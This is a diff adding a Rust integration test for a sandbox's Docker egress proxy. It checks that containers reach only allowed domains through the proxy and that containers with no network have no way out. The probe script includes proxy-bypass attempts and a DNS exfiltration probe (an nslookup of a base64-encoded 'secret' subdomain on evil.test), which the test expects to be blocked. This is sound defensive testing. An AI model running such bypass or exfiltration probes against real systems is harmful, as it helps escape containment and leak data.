@@ -1,0 +1,269 @@
+//! Egress on the Docker backend: a container with network none whose only way out is the
+//! session's proxy, its Unix socket in the run dir the container sees, bridged to the
+//! container's loopback by the agent. One warm pool serves a session with a way out and
+//! one without. The proxy runs in this test's process, inside the test's own internet
+//! ([`net::run`]); the containers are the engine's, in network namespaces of their own.
+
+use std::collections::HashMap;
+use std::net::{IpAddr, SocketAddr};
+use std::path::Path;
+use std::pin::Pin;
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use cordon::network::proxy::dial::{Resolve, StaticResolver};
+use cordon::network::proxy::record::MemoryLog;
+use cordon::network::{EgressSpec, NetworkPolicy, policy::DomainRule};
+use cordon::sandbox::docker::{DockerBackend, DockerConfig, elf_deps};
+use cordon::sandbox::{Backend, Sandbox, SandboxSpec};
+use cordon_tests::net::{self, SERVER};
+use cordon_tests::{Workspace, cordon_bin, docker_ready};
+use sandbox_agent::proto::ExecRequest;
+
+/// The image the test builds: `cordon-minimal` with the host's curl and the libraries it
+/// loads, at their own paths.
+const IMAGE: &str = "cordon-test-net-curl";
+
+/// Builds [`IMAGE`] through `cordon images build` (a project image, as a user makes one).
+fn build_curl_image(home: &Path) {
+    let ctx = home.join("ctx");
+    let root = ctx.join("root");
+    let curl = Path::new("/usr/bin/curl");
+    let elf = std::fs::read(curl).expect("the host's curl");
+    let mut files = elf_deps::runtime_files(curl, &elf).unwrap();
+    files.push(curl.to_path_buf());
+    for f in &files {
+        let dst = root.join(f.strip_prefix("/").unwrap());
+        std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
+        std::fs::copy(f, &dst).unwrap();
+    }
+    std::fs::write(
+        ctx.join("Dockerfile"),
+        "FROM cordon-minimal\nCOPY root/ /\nENV PATH=/usr/bin:/bin\n",
+    )
+    .unwrap();
+    let out = std::process::Command::new(cordon_bin())
+        .args(["images", "build", IMAGE, "--dockerfile"])
+        .arg(ctx.join("Dockerfile"))
+        .arg("--context")
+        .arg(&ctx)
+        .env("CORDON_HOME", home)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+/// Removes the test's image, whatever happens.
+struct Image;
+
+impl Drop for Image {
+    fn drop(&mut self) {
+        let _ = std::process::Command::new("docker")
+            .args(["rmi", "-f", IMAGE])
+            .output();
+    }
+}
+
+/// Answers [`SERVER`] for its names and keeps every name it was asked.
+struct Recording {
+    table: StaticResolver,
+    asked: Mutex<Vec<String>>,
+}
+
+impl Recording {
+    fn new(names: &[&str]) -> Recording {
+        let table = names
+            .iter()
+            .map(|n| (n.to_string(), vec![IpAddr::V4(SERVER)]))
+            .collect();
+        Recording {
+            table: StaticResolver(table),
+            asked: Mutex::new(Vec::new()),
+        }
+    }
+}
+
+impl Resolve for Recording {
+    fn resolve<'a>(
+        &'a self,
+        host: &'a str,
+        port: u16,
+    ) -> Pin<Box<dyn Future<Output = std::io::Result<Vec<SocketAddr>>> + Send + 'a>> {
+        self.asked.lock().unwrap().push(host.to_string());
+        self.table.resolve(host, port)
+    }
+}
+
+fn policy(allowed: &[&str], denied: &[&str]) -> NetworkPolicy {
+    let rules = |l: &[&str]| {
+        l.iter()
+            .map(|d| DomainRule::parse(d, *d).unwrap())
+            .collect()
+    };
+    NetworkPolicy {
+        allowed: rules(allowed),
+        denied: rules(denied),
+        allow_local_binding: false,
+    }
+}
+
+/// One `CHECK name rc=N out=...` line per check (busybox sh, the image's curl).
+const CHECKS: &str = r#"
+check() { name=$1; shift; out=$("$@" 2>&1); rc=$?; echo "CHECK $name rc=$rc out=$(echo "$out" | tr '\n' ' ')"; }
+code() { curl -sS -o /dev/null -w '%{http_code}' "$@"; }
+check http curl -sS http://allowed.test/x
+check connect curl -sS -p http://allowed.test/y
+check denied code http://other.test/
+check unlisted code http://unlisted.test/
+check ip_literal code http://203.0.113.10/
+check noproxy curl -sS --max-time 20 --noproxy '*' http://allowed.test/
+check noproxy_ip curl -sS --max-time 20 --noproxy '*' http://203.0.113.10/
+check dns_allowed nslookup allowed.test
+check dns_denied nslookup other.test
+check dns_exfil nslookup c2VjcmV0.evil.test
+check bridge curl -sS --max-time 20 -x http://127.0.0.1:3128 http://allowed.test/z
+"#;
+
+fn parse(stdout: &str) -> HashMap<String, (i32, String)> {
+    stdout
+        .lines()
+        .filter_map(|l| l.strip_prefix("CHECK "))
+        .filter_map(|l| {
+            let (name, rest) = l.split_once(" rc=")?;
+            let (rc, out) = rest.split_once(" out=")?;
+            Some((name.to_string(), (rc.parse().ok()?, out.trim().to_string())))
+        })
+        .collect()
+}
+
+async fn checks(sandbox: &Sandbox) -> HashMap<String, (i32, String)> {
+    let req = ExecRequest {
+        exec_id: "net-checks".into(),
+        command: CHECKS.to_string(),
+        timeout_ms: 120_000,
+        ..ExecRequest::default()
+    };
+    let (out, status) = sandbox.client.clone().exec_collect(req).await.unwrap();
+    let out = String::from_utf8_lossy(&out).into_owned();
+    assert_eq!(status.code, Some(0), "{out}");
+    parse(&out)
+}
+
+#[test]
+fn docker_sessions_with_and_without_a_way_out_share_the_warm_pool() {
+    if let Err(why) = docker_ready() {
+        eprintln!("\n!!!!! SKIPPING docker egress test: {why} !!!!!\n");
+        return;
+    }
+    let home = tempfile::tempdir().unwrap();
+    let _image = Image;
+    build_curl_image(home.path());
+    let run_root = home.path().join("run");
+    // No mount namespace of the test's own (no resolv.conf to mount): the claim writes
+    // into the container's root, a mount made after this thread started. The proxy's
+    // resolver is the test's table, recording what it was asked.
+    net::run(&[IpAddr::V4(SERVER)], None, move || async move {
+        let resolver = Arc::new(Recording::new(&[
+            "allowed.test",
+            "other.test",
+            "unlisted.test",
+        ]));
+        net::http_server(SocketAddr::new(IpAddr::V4(SERVER), 80), 0).await;
+        let backend = DockerBackend::new(DockerConfig {
+            pool_size: 2,
+            default_image: IMAGE.into(),
+            run_root: run_root.clone(),
+            ..DockerConfig::default()
+        })
+        .await
+        .unwrap();
+        let pool = backend.pool().expect("the tests run as root: a warm pool");
+        assert_eq!(pool.wait_ready(2, Duration::from_secs(120)).await, 2);
+
+        let ws = Workspace::new();
+        let log = Arc::new(MemoryLog::default());
+        let mut egress = EgressSpec::new(policy(&["allowed.test", "other.test"], &["other.test"]));
+        egress.log = log.clone();
+        egress.resolver = resolver.clone();
+        let spec = SandboxSpec::new("net-docker-egress", ws.path()).with_egress(egress);
+        let with = backend.start(&spec).await.unwrap();
+        assert!(
+            with.warm,
+            "a session with a way out is served from the pool"
+        );
+        let c = checks(&with).await;
+        let get = |name: &str| {
+            c.get(name)
+                .cloned()
+                .unwrap_or_else(|| panic!("{name}: {c:?}"))
+        };
+        assert_eq!(get("http"), (0, "host=allowed.test path=/x".into()));
+        assert_eq!(get("connect"), (0, "host=allowed.test path=/y".into()));
+        assert_eq!(get("bridge"), (0, "host=allowed.test path=/z".into()));
+        for refused in ["denied", "unlisted", "ip_literal"] {
+            assert_eq!(get(refused), (0, "403".into()), "{refused}");
+        }
+        // Around the proxy there is no route out of the container.
+        for direct in ["noproxy", "noproxy_ip"] {
+            assert_ne!(get(direct).0, 0, "{direct}: {:?}", get(direct));
+        }
+        let (rc, out) = get("dns_allowed");
+        assert_eq!(rc, 0, "{out}");
+        assert!(out.contains("198.18.0.1"), "{out}");
+        for refused in ["dns_denied", "dns_exfil"] {
+            let (rc, out) = get(refused);
+            assert!(rc != 0 && !out.contains("198.18"), "{refused}: {out}");
+        }
+        let asked = resolver.asked.lock().unwrap().clone();
+        for never in ["other.test", "unlisted.test", "c2VjcmV0.evil.test"] {
+            assert!(
+                !asked.iter().any(|n| n == never),
+                "{never} resolved: {asked:?}"
+            );
+        }
+        let records = log.records();
+        assert!(
+            records
+                .iter()
+                .any(|r| r.host == "allowed.test" && r.allowed && r.bytes_down > 0),
+            "{records:?}"
+        );
+        assert!(
+            records.iter().any(|r| r.host == "other.test" && !r.allowed),
+            "{records:?}"
+        );
+        let sock = run_root.join("cordon-net-docker-egress/sock/egress.sock");
+        with.destroy().await.unwrap();
+        assert!(!sock.exists(), "the proxy's socket goes with the session");
+
+        // A session without network, from the same pool: no proxy, no INET socket at all.
+        assert!(pool.wait_ready(1, Duration::from_secs(120)).await >= 1);
+        let ws2 = Workspace::new();
+        let without = backend
+            .start(&SandboxSpec::new("net-docker-none", ws2.path()))
+            .await
+            .unwrap();
+        assert!(
+            without.warm,
+            "a session without network is served from the pool too"
+        );
+        let c = checks(&without).await;
+        for name in ["http", "bridge", "noproxy", "noproxy_ip", "dns_allowed"] {
+            let (rc, out) = c.get(name).cloned().unwrap();
+            assert_ne!(rc, 0, "{name} without network: {out}");
+        }
+        assert!(
+            !run_root
+                .join("cordon-net-docker-none/sock/egress.sock")
+                .exists(),
+            "no proxy for a session without network"
+        );
+        without.destroy().await.unwrap();
+        backend.shutdown().await;
+    });
+}
